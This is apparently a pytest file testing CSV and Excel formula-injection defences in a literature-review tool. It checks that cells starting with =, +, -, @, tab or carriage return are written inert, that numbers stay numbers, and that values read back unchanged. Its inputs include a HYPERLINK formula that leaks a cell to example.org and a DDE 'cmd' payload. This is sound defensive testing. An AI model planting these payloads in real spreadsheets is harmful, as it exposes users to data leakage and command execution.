"""Formula neutralisation: a cell a spreadsheet would run is written inert in every CSV and workbook people open,
and read back exactly as it was."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from reviewflow.config import load_config
from reviewflow.formulas import neutralise, restore
from reviewflow.screening.workbook import write_workbook
from reviewflow.screening.workbook_read import read_workbook
from reviewflow.tables import read_table, write_table

PROJECT = Path(__file__).resolve().parents[2] / "reviews" / "cryoneurolysis"
ATTACK = '=HYPERLINK("https://example.org/?leak="&A1,"Cryoneurolysis for knee pain")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1",
                                  "'=already quoted", "''=twice", "'Cold' therapy", "plain title", ""])
def test_neutralised_text_is_inert_and_restores_exactly(text: str) -> None:
    written = neutralise(text)
    assert not written or written[0] not in "=+-@\t\r"
    assert restore(written) == text


@pytest.mark.parametrize("number", ["-3", "+4", "-0.5", "-1e3", "2024"])
def test_numbers_stay_numbers(number: str) -> None:
    assert neutralise(number) == number


def test_csv_cells_are_written_inert_and_read_back_unchanged(tmp_path: Path) -> None:
    frame = pd.DataFrame({"work_id": ["W000000000001", "W000000000002"], "title": [ATTACK, "-Opioid-sparing"],
                          "score": ["-3", "2"], "count": [-3, 4]})
    path = tmp_path / "awaiting_screening.csv"
    write_table(frame, path)
    text = path.read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in text and "'-Opioid-sparing" in text
    assert ",-3,-3\n" in text  # numbers, as text or as numbers, are not quoted
    back = read_table(path)
    assert back["title"].tolist() == [ATTACK, "-Opioid-sparing"]
    assert back["score"].tolist() == ["-3", "2"]


def test_workbook_cells_are_text_not_formulas_and_read_back_unchanged(tmp_path: Path) -> None:
    config = load_config(PROJECT / "config" / "review.yaml")
    rows = pd.DataFrame([{"work_id": "W000000000001", "stage": "title_abstract", "title": ATTACK,
                          "abstract": "-10% pain", "keywords": "@risk"}])
    path = tmp_path / "sheet.xlsx"
    write_workbook(rows, ["title_abstract"], config, "AB", path)
    sheet = load_workbook(path)["title_abstract"]
    assert sheet["C2"].data_type == "s" and sheet["C2"].value == ATTACK
    assert sheet["C2"].quotePrefix  # Excel keeps it text when the cell is edited
    (label, table), = read_workbook(path)
    assert table.loc[0, "title"] == ATTACK and table.loc[0, "abstract"] == "-10% pain"
